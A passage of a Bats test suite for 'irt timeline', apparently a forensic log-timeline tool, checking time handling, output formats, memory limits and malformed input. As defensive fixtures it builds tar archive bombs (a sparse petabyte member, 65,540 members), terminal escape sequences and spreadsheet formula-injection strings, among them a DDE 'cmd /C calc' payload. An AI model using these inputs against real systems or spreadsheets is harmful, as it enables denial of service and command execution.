	assert_contains "$output" '"host":"db02","type":"syslog:line"'
	printf '%s\n' "$output" | python3 -c '
import json, sys
ts = [json.loads(l)["ns"] for l in sys.stdin]
assert ts == sorted(ts), ts
'
}

@test "--since is inclusive, --until exclusive, --match filters" {
	run irt timeline -q --format jsonl --since 2026-01-05T10:00:01Z --until 2026-01-05T10:00:03Z "$DATA/dpkg.log"
	[ "$(printf '%s\n' "$output" | wc -l)" -eq 2 ]
	assert_contains "$output" '10:00:01Z'
	assert_contains "$output" '10:00:02Z'
	run irt timeline -q --format jsonl --since 1767607201 --until 1767607202 "$DATA/dpkg.log"
	[ "$(printf '%s\n' "$output" | wc -l)" -eq 1 ]
	run irt timeline -q --format jsonl --match 'half-inst' "$DATA/dpkg.log"
	[ "$(printf '%s\n' "$output" | wc -l)" -eq 1 ]
	run irt timeline -q --match '(' "$DATA/dpkg.log"
	[ "$status" -eq 2 ]
}

@test "times irt cannot hold are refused with a warning, never wrapped" {
	# year 2500 came back as 1915, before any --since
	printf '#16725225600\nfar\n#1767225600\nok\n' >"$TMP/h"
	run irt timeline --format jsonl --since 1900-01-01 "bash_history:$TMP/h"
	[ "$status" -eq 0 ]
	assert_contains "$output" "h:1: time @16725225600 out of range (irt holds 1677-09-21 to 2262-04-11), entry skipped"
	assert_not_contains "$output" '"message":"far"'
	assert_contains "$output" '"message":"ok"'
	assert_contains "$output" "1 records written, 1 warnings"
	run irt timeline --since 2500-01-01 "bash_history:$TMP/h"
	[ "$status" -eq 2 ]
	assert_contains "$output" "--since: time '2500-01-01' out of range"
	run irt timeline --format jsonl --year 9999 "syslog:$DATA/auth.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "auth.log:1: time 9999-12-31T23:59:58 out of range"
	assert_contains "$output" "0 records written"
	# a file's times: the ones irt can hold are kept
	touch "$TMP/f"
	touch -m -d '2300-01-01 00:00:00' "$TMP/f"
	[ "$(stat -c %Y "$TMP/f")" = 10413792000 ]
	run irt timeline --format jsonl "fs:$TMP/f"
	[ "$status" -eq 0 ]
	assert_contains "$output" "mtime: time @10413792000 out of range"
	assert_contains "$output" '"macb":".'
	assert_not_contains "$output" '"mtime"'
	assert_not_contains "$output" '"time":"2300'
}

@test "--tz changes the display only" {
	run irt timeline -q --format timesketch-jsonl --tz +02:00 "$DATA/dpkg.log"
	assert_contains "$output" '"datetime":"2026-01-05T12:00:01.000000+02:00","timestamp":1767607201000000'
	run irt timeline -q --format mactime-csv --tz Asia/Tokyo "$DATA/simple.body"
	assert_contains "$output" '2026-01-01T09:00:00+09:00,1234,.a..'
	run irt timeline -q --tz Nowhere/Land "$DATA/dpkg.log"
	[ "$status" -eq 2 ]
}

@test "formats: jsonl is valid, Timesketch CSV/JSONL, l2tcsv has 17 columns" {
	srcs="$DATA/simple.body $DATA/auth.log $DATA/access.log $DATA/journal.json"
	irt timeline -q --format jsonl $srcs >"$TMP/j"
	[ "$(json_lines <"$TMP/j")" -gt 10 ]
	irt timeline -q --format timesketch-jsonl $srcs | python3 -c '
import json, sys
for l in sys.stdin:
    o = json.loads(l)
    for k in ("message", "datetime", "timestamp", "timestamp_desc", "data_type", "source", "host"):
        assert k in o, (k, o)
    assert o["datetime"][-6] in "+-", o
'
	irt timeline -q --format timesketch-csv $srcs | python3 -c '
import csv, sys
r = list(csv.reader(sys.stdin))
h = r[0]
assert h[:4] == ["message", "datetime", "timestamp", "timestamp_desc"], h
assert all(len(x) == len(h) for x in r), "ragged"
assert "src_ip" in h and "inode" in h and "user_agent" in h
'
	irt timeline -q --format l2tcsv $srcs | python3 -c '
import csv, sys
r = list(csv.reader(sys.stdin))
assert r[0][0] == "date" and len(r[0]) == 17, r[0]
assert all(len(x) == 17 for x in r)
'
}

@test "JSON stays valid UTF-8: invalid bytes are escaped, exact bytes in path_hex" {
	printf '0|/bad\xff\x1b[31m|5|r/rrw-r--r--|0|0|1|1700000000|1700000000|1700000000|0\n' >"$TMP/u.body"
	run irt timeline -q --format jsonl "bodyfile:$TMP/u.body"
	assert_contains "$output" '"path":"/bad\\xff\u001b[31m"'
	assert_contains "$output" '"path_hex":"2f626164ff1b5b33316d"'
	printf '%s\n' "$output" | iconv -f UTF-8 -t UTF-8 >/dev/null
	# the terminal format escapes control characters
	run irt timeline -q --format mactime "bodyfile:$TMP/u.body"
	assert_contains "$output" '/bad\xff\e[31m'
}

@test "the same input gives the same bytes; events with no time are not 1970" {
	a=$(irt timeline -q --format jsonl "$DATA/auth.log" "$DATA/simple.body" | sha256sum)
	b=$(irt timeline -q --format jsonl "$DATA/auth.log" "$DATA/simple.body" | sha256sum)
	[ "$a" = "$b" ]
	run irt timeline -q --format jsonl "$DATA/simple.body"
	assert_not_contains "$output" '1970-01-01T00:00:00Z'
}

@test "beyond --memory events spill to sorted runs; the output is the same" {
	python3 - "$TMP/big.body" <<'EOF'
import random, sys
random.seed(7)
with open(sys.argv[1], "w") as f:
    for i in range(60000):
        t = 1600000000 + random.randrange(0, 10**7)
        f.write("0|/data/file%06d|%d|r/rrw-r--r--|0|0|%d|%d|%d|%d|0\n"
                % (i, i + 100, i, t, t - random.randrange(0, 9999), t))
EOF
	irt timeline --format mactime-csv "bodyfile:$TMP/big.body" >"$TMP/mem.csv" 2>"$TMP/mem.err"
	grep -q "records written, 0 warnings$" "$TMP/mem.err"
	mkdir "$TMP/runs"
	irt timeline --memory 2M --format mactime-csv --tmpdir "$TMP/runs" "bodyfile:$TMP/big.body" >"$TMP/spill.csv" 2>"$TMP/spill.err"
	# it did spill, and says so
	grep -Eq "records written, 0 warnings, [0-9]+ sorted runs spilled to disk$" "$TMP/spill.err"
	cmp "$TMP/mem.csv" "$TMP/spill.csv"
	[ "$(wc -l <"$TMP/mem.csv")" -gt 100000 ]
	# temporary runs are gone
	[ -z "$(ls "$TMP/runs")" ]
	# and they were in --tmpdir: where it cannot write, spilling fails
	run irt timeline --memory 2M --format mactime-csv --tmpdir "$TMP/none" -o /dev/null "bodyfile:$TMP/big.body"
	[ "$status" -eq 1 ]
	assert_contains "$output" "cannot create a temporary file in '$TMP/none'"
}

@test "bad input: garbage, NUL bytes, a line over 1 MiB; --strict fails" {
	head -c 20000 /dev/urandom >"$TMP/garbage"
	run irt timeline --format jsonl "syslog:$TMP/garbage"
	[ "$status" -eq 0 ]
	assert_contains "$output" "warnings"
	{
		head -2 "$DATA/dpkg.log"
		printf '2026-01-05 10:00:09 install a\0b 1\n'
		head -c 1200000 /dev/zero | tr '\0' 'x'
		printf '\n'
		tail -2 "$DATA/dpkg.log"
	} >"$TMP/dpkg.log"
	run irt timeline --format jsonl "$TMP/dpkg.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "line longer than 1048576 bytes"
	assert_contains "$output" '"result":"installed"'
	assert_contains "$output" 'startup archives unpack'
	assert_contains "$output" "dpkg.log:3: NUL byte in line"
	run irt timeline --strict --format jsonl "$TMP/dpkg.log"
	[ "$status" -eq 1 ]
	assert_contains "$output" "dpkg.log:3: NUL byte in line"
	run irt timeline -q --strict "$DATA/dpkg.log"
	[ "$status" -eq 1 ]
}

@test "many warnings are counted in the summary, not all shown" {
	head -c 300000 /dev/urandom | base64 >"$TMP/noise"
	run irt timeline --format jsonl "dpkg:$TMP/noise"
	[ "$status" -eq 0 ]
	assert_contains "$output" "further warnings are counted, not shown"
	[ "$(printf '%s\n' "$output" | grep -c 'warning:')" -le 102 ]
}

@test "-o writes to a file" {
	run irt timeline -q -o "$TMP/out.csv" --format mactime-csv "$DATA/simple.body"
	[ "$status" -eq 0 ]
	[ -z "$output" ]
	head -1 "$TMP/out.csv" | grep -q '^Date,Size,Type,Mode,UID,GID,Meta,File Name$'
}

@test "a syslog member over 32 MiB is read twice through a temporary file" {
	mkdir -p "$TMP/s/fs/var/log" "$TMP/t"
	awk 'BEGIN { for (i = 0; i < 500000; i++) {
		m = i < 250000 ? "Dec" : "Jan"; d = i < 250000 ? 31 : 1
		printf "%s %2d %02d:%02d:%02d web01 app[%d]: message %d with some padding text\n",
		    m, d, int(i / 3600) % 24, int(i / 60) % 60, i % 60, i, i } }' \
	    >"$TMP/s/fs/var/log/syslog"
	[ "$(stat -c %s "$TMP/s/fs/var/log/syslog")" -gt 33554432 ]
	touch -d '2026-02-01' "$TMP/s/fs/var/log/syslog"
	tar -C "$TMP/s" -czf "$TMP/s.tar.gz" fs
	rm -rf "$TMP/s"
	irt timeline -q --tmpdir "$TMP/t" --format jsonl "$TMP/s.tar.gz" >"$TMP/out"
	[ "$(wc -l <"$TMP/out")" -eq 500000 ]
	head -1 "$TMP/out" | grep -q '"time":"2025-12-31T00:00:00Z"'
	tail -1 "$TMP/out" | grep -q '"time":"2026-01-01T'
	[ -z "$(ls "$TMP/t")" ]
}

@test "a syslog member is kept in memory up to an eighth of --memory" {
	mkdir -p "$TMP/s/fs/var/log"
	awk 'BEGIN { for (i = 0; i < 20000; i++)
		printf "Jan  1 00:%02d:%02d web01 app[%d]: message %d\n",
		    int(i / 60) % 60, i % 60, i, i }' >"$TMP/s/fs/var/log/syslog"
	[ "$(stat -c %s "$TMP/s/fs/var/log/syslog")" -gt 262144 ]
	tar -C "$TMP/s" -czf "$TMP/s.tar.gz" fs
	# 2M: a share of 256 KiB, so the member goes to a temporary file
	run irt timeline -q --memory 2M --tmpdir "$TMP/none" --format jsonl "$TMP/s.tar.gz"
	[ "$status" -eq 1 ]
	assert_contains "$output" "cannot create a temporary file in '$TMP/none'"
	run irt timeline -q --memory 64M --tmpdir "$TMP/none" --format jsonl "$TMP/s.tar.gz"
	[ "$status" -eq 0 ]
	[ "$(printf '%s\n' "$output" | wc -l)" -eq 20000 ]
}

@test "FIFOs and devices are skipped with a warning, never read" {
	mkfifo "$TMP/auth.log"
	ln -s /dev/zero "$TMP/zero.log"
	# before: open() waited for a writer, /dev/zero never ended
	run timeout 60 "$IRT" timeline --format jsonl "$TMP/auth.log" \
	    "syslog:$TMP/zero.log" "dpkg:/dev/zero" "$DATA/dpkg.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" "warning: $TMP/auth.log: a FIFO, skipped"
	assert_contains "$output" "warning: $TMP/zero.log: a character device, skipped"
	assert_contains "$output" "warning: /dev/zero: a character device, skipped"
	assert_contains "$output" '"type":"dpkg:log"'
	# fs: only looks at them
	run timeout 60 "$IRT" timeline -q --format jsonl "fs:$TMP"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"mode":"p/p'
	run timeout 60 "$IRT" timeline --strict --format jsonl "$TMP/auth.log"
	[ "$status" -eq 1 ]
}

@test "reading a log leaves its access time alone" {
	cp "$DATA/dpkg.log" "$TMP/dpkg.log"
	# an atime older than the mtime: relatime would update it
	touch -a -d '2020-01-01 00:00:00' "$TMP/dpkg.log"
	before=$(stat -c %X "$TMP/dpkg.log")
	run irt timeline -q --format jsonl "$TMP/dpkg.log"
	[ "$status" -eq 0 ]
	assert_contains "$output" '"type":"dpkg:log"'
	[ "$(stat -c %X "$TMP/dpkg.log")" = "$before" ]
}

@test "archive bombs: a sparse member claiming a petabyte, 65,536 members" {
	# pax 1.0 sparse: 1 PiB of which 88 bytes are data (the rest runs
	# for ever when its holes are read as zeros)
	python3 - "$TMP/bomb.tar.gz" <<'EOF'
import io, sys, tarfile
data = b"Jan  1 00:00:01 web01 app: before the hole\n"
tail = b"\nJan  1 00:00:02 web01 app: after the hole\n"
real = 1 << 50
m = b"2\n0\n%d\n%d\n%d\n" % (len(data), real - len(tail), len(tail))
body = m + b"\0" * (-len(m) % 512) + data + tail
ti = tarfile.TarInfo("fs/var/log/GNUSparseFile.0/syslog")
ti.size = len(body)
ti.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                  "GNU.sparse.name": "fs/var/log/syslog",
                  "GNU.sparse.realsize": str(real)}
with tarfile.open(sys.argv[1], "w:gz", format=tarfile.PAX_FORMAT) as t:
    t.addfile(ti, io.BytesIO(body))
EOF
	[ "$(stat -c %s "$TMP/bomb.tar.gz")" -lt 1000 ]
	run timeout 60 "$IRT" timeline --year 2026 --format jsonl "$TMP/bomb.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "'fs/var/log/syslog': sparse, 1125899906265600 bytes of holes left out"
	assert_contains "$output" '"message":"app: before the hole"'
	assert_contains "$output" '"message":"app: after the hole"'
	# more members than sources: the rest is skipped, not the timeline
	python3 - "$TMP/many.tar.gz" <<'EOF'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w:gz") as t:
    for i in range(65540):
        d = b"2026-01-05 10:00:00 install p%d:amd64 <none> 1\n" % i if i < 3 else b""
        ti = tarfile.TarInfo("fs/var/log/dpkg.log.%d" % i)
        ti.size = len(d)
        t.addfile(ti, io.BytesIO(d))
EOF
	run irt timeline --format jsonl "$TMP/many.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "many.tar.gz: more than 65535 sources: 'fs/var/log/dpkg.log.65534' and the rest of the archive skipped"
	assert_contains "$output" '"package":"p2:amd64"'
	assert_contains "$output" "3 events from 65535 sources"
}

@test "archive bombs: a member of many holes is cut at 64 MiB of zeros, a lastlog's holes are skipped" {
	# pax 1.0 sparse: 300 holes of some 700 KB of zeros each (what
	# would be given of them), in a map of a few KB
	python3 - "$TMP/holes.tar.gz" <<'EOF'
import io, sys, tarfile
step = 2 * 350400 - 2
line = b"Jan  1 00:00:01 web01 app: before the holes\n"
segs = [(0, line)] + [(i * step, b"x") for i in range(1, 301)]
m = b"%d\n" % len(segs) + b"".join(b"%d\n%d\n" % (o, len(d)) for o, d in segs)
body = m + b"\0" * (-len(m) % 512) + b"".join(d for o, d in segs)
ti = tarfile.TarInfo("fs/var/log/GNUSparseFile.0/syslog")
ti.size = len(body)
ti.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                  "GNU.sparse.name": "fs/var/log/syslog",
                  "GNU.sparse.realsize": str(300 * step + 1)}
with tarfile.open(sys.argv[1], "w:gz", format=tarfile.PAX_FORMAT) as t:
    t.addfile(ti, io.BytesIO(body))
EOF
	[ "$(stat -c %s "$TMP/holes.tar.gz")" -lt 10000 ]
	run timeout 60 "$IRT" timeline --year 2026 --format jsonl "$TMP/holes.tar.gz"
	[ "$status" -eq 0 ]
	assert_contains "$output" "'fs/var/log/syslog': more than 64 MiB of holes read as zeros, the rest left out"
	assert_contains "$output" '"message":"app: before the holes"'
	# a lastlog of 400 uids 100,000 apart: each hole read as one record
	# of zeros, the rest skipped, every uid where it was
	mkdir -p "$TMP/ll/fs/var/log"
	python3 - "$TMP/ll/fs/var/log/lastlog" <<'EOF'
import struct, sys
with open(sys.argv[1], "wb") as f:
    for i in range(400):
        f.seek(i * 100000 * 292)
        f.write(struct.pack("<i32s256s", 1767225600 + i, b"pts/1", b"h"))
EOF
	tar -czSf "$TMP/ll.tar.gz" -C "$TMP/ll" fs
	run timeout 60 "$IRT" timeline --format jsonl "$TMP/ll.tar.gz"
	[ "$status" -eq 0 ]
	assert_not_contains "$output" "read as zeros"
	[ "$(grep -c '"type":"linux:lastlog"' <<<"$output")" -eq 400 ]
	assert_contains "$output" '"uid":"39900000"'
}

@test "a truncated archive keeps the last lines of the member it cuts" {
	mkdir -p "$TMP/a/fs/var/log"
	seq 1 100000 | awk '{ printf "2026-01-05 10:%02d:%02d install p%d:amd64 <none> 1.%d\n", $1 % 60, $1 % 59, $1, $1 }' >"$TMP/a/fs/var/log/dpkg.log"
	tar -C "$TMP/a" -cf - fs | gzip -c >"$TMP/full.tar.gz"
	head -c $(($(stat -c %s "$TMP/full.tar.gz") / 2)) "$TMP/full.tar.gz" >"$TMP/cut.tar.gz"
	# what a streaming gzip decoder gives of the member
	python3 - "$TMP/cut.tar.gz" "$TMP/plain" <<'EOF'
import sys, tarfile, zlib
raw = zlib.decompressobj(31).decompress(open(sys.argv[1], "rb").read())
off = 0
while True:
    h = tarfile.TarInfo.frombuf(raw[off:off + 512], "utf-8", "surrogateescape")
    off += 512
    if h.name == "fs/var/log/dpkg.log":
        open(sys.argv[2], "wb").write(raw[off:off + h.size])
        break
    off += -(-h.size // 512) * 512
EOF
	[ "$(wc -l <"$TMP/plain")" -gt 20000 ]
	irt timeline -q --format mactime-csv "dpkg:$TMP/plain" >"$TMP/want"
	irt timeline --format mactime-csv "$TMP/cut.tar.gz" >"$TMP/got" 2>"$TMP/err"
	grep -q "cut.tar.gz: truncated gzip data after" "$TMP/err"
	cmp "$TMP/want" "$TMP/got"
}

@test "every format: safe on a terminal, whole for Timesketch's readers" {
	printf '\033]0;x\007|/bad\033[31m\377\302\233\342\200\250name|1|=HYPERLINK("http://x")|0|0|1|1700000000|1700000000|0|0\n' >"$TMP/h.body"
	printf 'Jan  2 03:04:05 h @SUM(1+1)*cmd|%s /C calc%s!A0\nJan  2 03:04:06 h app: a\342\200\250b\302\205c\n' "'" "'" >"$TMP/syslog"
	# every format irt knows, from its own list
	run irt timeline --format nope "$TMP/h.body"
	formats=$(printf '%s\n' "$output" | sed -n "s/.*unknown format 'nope' (one of: \(.*\)).*/\1/p" | tr -d ,)
	[ "$(echo $formats | wc -w)" -eq 7 ]
	for f in $formats; do
		irt timeline -q --year 2026 --format "$f" "$TMP/h.body" "syslog:$TMP/syslog" >"$TMP/out.$f"
		python3 - "$TMP/out.$f" <<'EOF'
import sys
d = open(sys.argv[1], "rb").read().decode("utf-8")
bad = [c for c in d if (ord(c) < 32 and c not in "\t\n") or 0x7f <= ord(c) < 0xa0]
assert not bad, (sys.argv[1], bad)
EOF
	done
	grep -q "'@SUM(1+1)" "$TMP/out.timesketch-csv"
	grep -q "'=HYPERLINK" "$TMP/out.mactime-csv"
	# Timesketch's importer reads JSON Lines through codecs, whose
	# lines also end at U+2028 and U+0085: one row per event still
	python3 - "$TMP/out.timesketch-jsonl" <<'EOF'
import codecs, json, sys
rows = [json.loads(l) for l in codecs.open(sys.argv[1], "r", "utf-8")]
assert len(rows) == 3, len(rows)
assert any(r["message"] == "app: a\u2028b\u0085c" for r in rows), rows
EOF
	python3 - "$TMP/out.timesketch-csv" <<'EOF'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8", errors="strict")))
assert len(rows) == 3, rows
assert any(r["message"].startswith("/bad\\x1b[31m\\xff") for r in rows), rows
EOF
}
